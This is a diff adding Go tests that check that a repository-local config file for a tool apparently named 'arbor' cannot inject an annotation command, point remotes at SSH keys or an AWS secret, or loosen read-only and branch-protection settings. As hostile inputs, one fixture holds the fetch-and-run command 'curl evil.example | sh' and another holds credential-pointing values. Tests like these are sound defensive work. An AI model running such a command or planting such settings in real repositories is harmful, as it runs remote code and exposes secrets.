@@ -0,0 +1,107 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"testing"
+)
+
+// load writes the global and repo-local files, either left out when
+// empty, and loads them.
+func load(t *testing.T, global, local string) (*Config, []Source) {
+	t.Helper()
+	home, repo := t.TempDir(), t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", home)
+	if global != "" {
+		if err := os.MkdirAll(filepath.Join(home, "arbor"), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(home, "arbor", fileName), []byte(global), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if local != "" {
+		if err := os.WriteFile(filepath.Join(repo, RepoFileName), []byte(local), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	cfg, sources, err := Load(repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return cfg, sources
+}
+
+func TestLocalAnnotationCommandIgnored(t *testing.T) {
+	cfg, sources := load(t, "", `columns = ["graph", "subject", "annotation"]
+[annotations]
+command = "curl evil.example | sh"
+`)
+	if cfg.Annotations.Command != "" {
+		t.Errorf("annotations.command = %q from the repo file, want it dropped", cfg.Annotations.Command)
+	}
+	if slices.Contains(cfg.Columns, "annotation") {
+		t.Errorf("columns = %v, want the annotation column dropped with no command", cfg.Columns)
+	}
+	if len(sources) != 2 || len(sources[1].Ignored) != 1 {
+		t.Errorf("sources = %+v, want the repo file to note what it ignored", sources)
+	}
+	if errs := cfg.Validate(); len(errs) > 0 {
+		t.Errorf("Validate = %v", errs)
+	}
+
+	cfg, _ = load(t, "[annotations]\ncommand = \"./annotate\"\n", "[annotations]\ncommand = \"other\"\n")
+	if cfg.Annotations.Command != "./annotate" {
+		t.Errorf("annotations.command = %q, want the global one kept", cfg.Annotations.Command)
+	}
+}
+
+func TestLocalRemoteCredentialsIgnored(t *testing.T) {
+	cfg, sources := load(t, `[remotes.origin]
+ssh_key = "~/.ssh/work"
+`, `[remotes.origin]
+ssh_key = "~/.ssh/id_ed25519"
+token_env = "AWS_SECRET_ACCESS_KEY"
+alias = "up"
+[remotes.evil]
+username = "x"
+`)
+	if got, want := cfg.Remotes["origin"], (Remote{SSHKey: "~/.ssh/work", Alias: "up"}); got != want {
+		t.Errorf("remotes.origin = %+v, want %+v", got, want)
+	}
+	if got := cfg.Remotes["evil"]; got.Username != "" {
+		t.Errorf("remotes.evil = %+v, want no username", got)
+	}
+	if n := len(sources[1].Ignored); n != 3 {
+		t.Errorf("ignored %v, want 3 settings", sources[1].Ignored)
+	}
+}
+
+func TestLocalCannotLoosenSafety(t *testing.T) {
+	cfg, sources := load(t, `read_only = true
+[protect]
+branches = ["main", "release/*"]
+`, `read_only = false
+[protect]
+branches = ["develop"]
+amend_published = true
+`)
+	if !cfg.ReadOnly {
+		t.Error("read_only = false from the repo file, want it kept on")
+	}
+	if got, want := cfg.Protect.Branches, []string{"develop", "main", "release/*"}; !slices.Equal(got, want) {
+		t.Errorf("protect.branches = %v, want %v", got, want)
+	}
+	if cfg.Protect.AmendPublished {
+		t.Error("protect.amend_published = true from the repo file, want it off")
+	}
+	if n := len(sources[1].Ignored); n != 4 {
+		t.Errorf("ignored %v, want 4 settings", sources[1].Ignored)
+	}
+
+	cfg, _ = load(t, "", "read_only = true\n[protect]\nbranches = [\"main\"]\n")
+	if !cfg.ReadOnly || !slices.Equal(cfg.Protect.Branches, []string{"main"}) {
+		t.Errorf("read_only = %v, protect.branches = %v, want a repo file to tighten them", cfg.ReadOnly, cfg.Protect.Branches)
+	}
+}